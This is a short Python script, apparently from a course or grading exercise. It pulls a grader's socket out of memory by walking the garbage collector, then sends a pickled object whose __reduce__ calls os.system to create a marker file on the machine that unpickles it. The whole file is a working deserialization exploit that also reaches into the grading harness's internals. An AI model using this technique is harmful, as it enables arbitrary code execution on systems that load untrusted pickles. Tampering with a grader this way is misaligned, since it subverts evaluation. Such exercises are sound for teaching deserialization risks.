"""Send a pickle that would run a command where it is read."""

# %%
import gc

from course.grading.candidate import Candidate

channel = next(thing for thing in gc.get_objects() if type(thing) is Candidate).wire._sock
import pickle


class Evil:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{WORLD['mark']}",)


channel.send(pickle.dumps(Evil()))
